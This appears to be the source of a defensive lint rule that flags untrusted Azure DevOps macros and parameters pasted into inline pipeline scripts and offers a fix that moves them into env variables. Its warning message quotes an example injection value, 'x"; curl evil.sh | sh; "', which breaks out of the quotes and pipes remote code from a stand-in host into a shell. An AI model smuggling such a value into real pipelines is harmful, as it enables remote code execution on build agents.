/**
 * ado-script-injection: Azure DevOps macros (`$(Build.SourceVersionMessage)`,
 * `$(System.PullRequest.SourceBranch)`…), template expressions and free-form string
 * parameters expanded into inline script text (`script`, `bash`, `pwsh`, `powershell` steps
 * and the inline script inputs of Bash, PowerShell, CmdLine, AzureCLI and AzurePowerShell
 * tasks, plus their `arguments`). The agent substitutes them before the shell parses the
 * script. The fix maps the value into the step's `env:` and reads the variable.
 */
import { defineRule } from '../../engine/rule';
import type { Confidence, Fix } from '../../engine/types';
import type { AdoStep } from '../../languages/pipelines/azureDevOps';
import type { AdoReference } from '../../languages/pipelines/expressions';
import { findAdoReferences } from '../../languages/pipelines/expressions';
import { classifyReference, envNamesInScope, taintedYamlVariables } from '../../languages/pipelines/adoTaint';
import type { AdoTaintHit } from '../../languages/pipelines/adoTaint';
import { quotingOf } from '../../languages/pipelines/github';
import { moveToEnvEdits } from '../../languages/pipelines/scriptEnv';

const ARGUMENT_INPUTS = new Set(['arguments', 'scriptarguments']);
const ARGUMENT_TASKS = new Set(['bash', 'powershell', 'azurecli', 'azurepowershell', 'pythonscript', 'shellscript', 'batchscript']);

function envName(r: AdoReference, hit: AdoTaintHit): string {
  const base = r.syntax === 'macro' ? r.name : hit.taint === 'parameter' ? `PARAM_${hit.source.replace(/^parameters\./, '')}` : (r.variables[0] ?? 'VALUE');
  const n = base
    .toUpperCase()
    .replace(/[^A-Z0-9_]+/g, '_')
    .replace(/^_+|_+$/g, '');
  return /^[A-Z_]/.test(n) ? n.slice(0, 60) : `V_${n}`.slice(0, 60);
}

export default defineRule({
  meta: {
    id: 'ado-script-injection',
    description: 'Azure Pipelines scripts should not expand untrusted variables or free-form parameters as `$(…)` macros or `${{ }}` expressions in their code.',
    category: 'pipeline',
    severity: 'error',
    confidence: 'high',
    appliesTo: ['azure-pipelines'],
    fixable: 'safe',
    messages: {
      injection:
        '`{{ref}}` {{via}}is text chosen by {{who}}, and the agent pastes it into the script before the shell parses it: a value such as `x"; curl evil.sh | sh; "` becomes code. Map it into `env:` and read the environment variable.',
      argument:
        '`{{ref}}` {{via}}is text chosen by {{who}}, passed in `{{input}}`, which the task splits as a command line: quote-breaking characters in it become extra arguments or commands. Map it into `env:` and read it from the script.',
    },
    tags: ['CWE-78', 'CWE-94'],
    optionsSchema: {
      type: 'object',
      properties: {
        checkParameters: {
          type: 'boolean',
          description: 'Also report `${{ parameters.x }}` of type string without a `values:` list (set by whoever queues the run; default true, reported with low confidence).',
        },
      },
      additionalProperties: false,
    },
    defaultOptions: { checkParameters: true },
  },
  create(context) {
    const checkParameters = context.options['checkParameters'] !== false;
    const text = context.document.text;
    const who = (hit: AdoTaintHit) =>
      hit.taint === 'attacker' ? 'pull-request and commit authors' : hit.taint === 'pusher' ? 'whoever pushes the branch or queues the run' : 'whoever queues the run';
    const confidenceOf = (hit: AdoTaintHit): Confidence => (hit.taint === 'attacker' ? 'high' : hit.taint === 'pusher' ? 'medium' : 'low');

    function fixFor(step: AdoStep, hits: readonly { r: AdoReference; hit: AdoTaintHit }[]): Fix[] {
      const script = step.script;
      if (!script) return [];
      const lang = script.language;
      if (lang !== 'bash' && lang !== 'pwsh' && lang !== 'powershell') return [];
      const stepEnv = new Map<string, string>();
      for (const e of step.env) if (e.value) stepEnv.set(e.name, text.slice(e.value.span.start, e.value.span.end));
      const reserved = envNamesInScope(step);
      for (const n of stepEnv.keys()) reserved.delete(n.toUpperCase());
      // `$(x)` is already mapped by the agent to the env variable X: reusing that name changes nothing
      for (const { r, hit } of hits) if (r.syntax === 'macro') reserved.delete(envName(r, hit));
      const edits = moveToEnvEdits({
        text,
        language: lang,
        scriptStart: script.value.span.start,
        scriptEnd: script.value.span.end,
        quoting: quotingOf(script.value.node),
        stepMap: step.node,
        stepEnv,
        reserved,
        sites: hits.map(({ r, hit }) => ({ start: r.span.start, end: r.span.end, envValue: text.slice(r.span.start, r.span.end), name: envName(r, hit) })),
      });
      if (!edits) return [];
      return [{ title: 'Map the untrusted values of this step into env variables', edits, safety: 'safe' }];
    }

    return {
      adoStep(step) {
        const yamlTaint = taintedYamlVariables(step.pipeline, checkParameters);
        const script = step.script;
        if (script?.inline) {
          const hits: { r: AdoReference; hit: AdoTaintHit }[] = [];
          for (const r of script.references) {
            if (r.syntax === 'runtime') continue;
            const hit = classifyReference(step.pipeline, r, yamlTaint, checkParameters);
            if (hit) hits.push({ r, hit });
          }
          if (hits.length) {
            const fixes = fixFor(step, hits);
            for (const { r, hit } of hits) {
              context.report({
                span: r.span,
                messageId: 'injection',
                data: { ref: text.slice(r.span.start, r.span.end), via: hit.via ? `(built from \`${hit.source}\`) ` : '', who: who(hit) },
                confidence: confidenceOf(hit),
                fixes,
              });
            }
          }
        }
        if (step.task && ARGUMENT_TASKS.has(step.task.name)) {
          for (const input of step.inputs) {
            if (!ARGUMENT_INPUTS.has(input.name.toLowerCase()) || !input.value) continue;
            for (const r of findAdoReferences(text, input.value.span.start, input.value.span.end)) {
              if (r.syntax === 'runtime') continue;
              const hit = classifyReference(step.pipeline, r, yamlTaint, checkParameters);
              if (!hit) continue;
              context.report({
                span: r.span,
                messageId: 'argument',
                data: { ref: text.slice(r.span.start, r.span.end), via: hit.via ? `(built from \`${hit.source}\`) ` : '', who: who(hit), input: input.name },
                confidence: confidenceOf(hit) === 'high' ? 'medium' : 'low',
              });
            }
          }
        }
      },
    };
  },
});
